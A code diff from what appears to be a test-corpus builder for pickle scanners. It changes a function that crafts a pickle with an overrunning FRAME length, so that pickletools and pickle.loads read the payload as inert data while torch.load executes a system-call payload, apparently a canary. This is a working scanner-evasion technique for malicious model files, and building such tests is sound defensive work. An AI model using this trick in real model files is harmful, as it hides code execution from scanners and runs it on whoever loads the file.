@@ -290,12 +290,12 @@ def build(out: Path, canaries: Path) -> list[Case]:
 def frame_overrun(canary: Path, state_dict_pickle: bytes) -> bytes:
     """A FRAME whose last opcode's length field runs past the frame's end.
 
-    pickletools.genops and pickle.loads read on: the BINUNICODE's length swallows the
-    payload as text. torch.load's C unpickler (reading an io.BytesIO) drops the frame's
-    last two bytes and reads a fresh length (0) after the frame: the payload runs."""
+    pickletools.genops and pickle.loads read on: the BINBYTES length swallows the payload
+    as data. torch.load's C unpickler (reading an io.BytesIO) drops the frame's last two
+    bytes and reads a fresh length (0) after the frame: the payload runs."""
     payload = system_call(canary, pop=True)
     tail = b"0" + state_dict_pickle[2:]  # POP (the string), then the state dict, STOP
-    frame_body = b"X" + struct.pack("<H", 2 + len(payload))  # low half of the length genops sees
+    frame_body = b"B" + struct.pack("<H", 2 + len(payload))  # low half of the length genops sees
     return (b"\x80\x04\x95" + struct.pack("<Q", len(frame_body)) + frame_body
             + b"\0\0" + b"\0\0" + payload + tail)
 
